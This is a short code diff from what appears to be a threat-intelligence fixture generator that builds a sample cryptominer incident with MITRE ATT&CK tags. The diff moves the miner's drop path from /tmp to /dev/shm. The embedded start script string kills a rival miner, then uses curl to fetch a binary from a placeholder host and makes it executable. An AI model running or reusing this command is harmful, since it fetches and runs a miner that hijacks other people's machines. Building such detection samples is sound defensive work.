@@ -68,8 +68,8 @@ def miner():
               tags=CLEAR + (technique("Resource Hijacking - T1496"), technique("Scheduled Task - T1053.005")))
     e.attr("url", "http://203.0.113.77:8080/init.sh", "Start script")
     script = e.obj("script", "The start script", filename="init.sh", language="Bash", state="Malicious",
-                   script="#!/bin/sh\npkill kdevtmpfsi\ncurl -s http://203.0.113.77:8080/xm -o /tmp/.x && chmod +x /tmp/.x\n")
-    binary = e.obj("file", "The miner", filename="xm", path="/tmp/.x", sha256=digest("sha256", "miner", "xm"), sha512=digest("sha512", "miner", "xm"),
+                   script="#!/bin/sh\npkill kdevtmpfsi\ncurl -s http://203.0.113.77:8080/xm -o /dev/shm/.x && chmod +x /dev/shm/.x\n")
+    binary = e.obj("file", "The miner", filename="xm", path="/dev/shm/.x", sha256=digest("sha256", "miner", "xm"), sha512=digest("sha512", "miner", "xm"),
                    size_in_bytes=6291456)
     script.ref(binary, "downloads")
     e.attr("ip-dst|port", "203.0.113.77|3333", "Mining pool proxy")
